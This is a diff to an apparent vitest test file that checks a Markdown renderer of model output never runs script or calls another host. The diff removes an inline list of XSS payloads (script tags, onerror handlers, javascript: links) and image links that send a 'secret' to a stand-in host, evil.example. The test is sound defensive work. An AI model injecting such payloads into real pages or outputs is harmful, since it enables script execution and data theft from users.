@@ -1,65 +1,7 @@
 /** [Markdown 2] Model output never executes and causes no request to another host. */
 import { describe, expect, test } from 'vitest'
+import { payloads, tagsIn, wrappings } from '../../support/hostile-markdown.ts'
 import { byBlocks } from './render.tsx'
-
-const payloads = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<div onclick="alert(1)">x</div>',
-  '<style>@import "https://evil.example/x.css"</style>',
-  '<link rel=stylesheet href=https://evil.example>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<object data="javascript:alert(1)"></object>',
-  '<form action="https://evil.example"><input name=a></form>',
-  '<base href="https://evil.example">',
-  '<details open ontoggle=alert(1)>',
-  '<math><mtext><script>alert(1)</script></mtext></math>',
-  '[x](javascript:alert(1))',
-  '[x](JAVASCRIPT:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A;avascript&colon;alert(1))',
-  '[x](<javascript:alert(1)>)',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](vbscript:msgbox)',
-  '[x](//evil.example)',
-  '[x](/api/auth/sign-out)',
-  '[x](\u0001javascript:alert(1))',
-  '<javascript:alert(1)>',
-  '[x]\n\n[x]: javascript:alert(1)',
-  '![x](https://evil.example/?q=secret)',
-  '![x](//evil.example/a.png)',
-  '![x](javascript:alert(1))',
-  '![x](/api/checkout)',
-  '![x](/api/files/../checkout)',
-  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
-  '![x][i]\n\n[i]: https://evil.example/?q=secret',
-  '[![x](https://evil.example/a.png)](javascript:alert(1))',
-  '```html\n<script>alert(1)</script>\n```',
-  '```"><img src=x onerror=alert(1)>\na\n```',
-  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
-  '[x](https://example.com "\\" onmouseover=alert(1)")',
-  'www.example.com/"onmouseover="alert(1)',
-  '$\\href{javascript:alert(1)}{x}$',
-  '$<img src=x onerror=alert(1)>$',
-  '\\(</code><script>alert(1)</script>\\)',
-  '$$\n<iframe src="javascript:alert(1)">\n$$',
-  '```mermaid\nflowchart LR\n  A["<img src=x onerror=alert(1)>"]\n  click A "javascript:alert(1)"\n```',
-]
-
-const wrappings: readonly (readonly [name: string, wrap: (payload: string) => string])[] = [
-  ['alone', (payload) => payload],
-  ['in a sentence', (payload) => `Look: ${payload} there.`],
-  ['in a list', (payload) => `- a\n- ${payload.replaceAll('\n', '\n  ')}\n\nb`],
-  ['in a quote', (payload) => `> ${payload.replaceAll('\n', '\n> ')}`],
-  ['after a block', (payload) => `# h\n\n${payload}\n\nend`],
-]
-
-/** All tags of the HTML with their attributes. Text of the answer is escaped and cannot be a tag. */
-const tagsIn = (html: string): readonly string[] => html.match(/<[a-z][^>]*>/gi) ?? []
 
 const offences = (html: string): readonly string[] =>
   tagsIn(html).filter((tag) => {
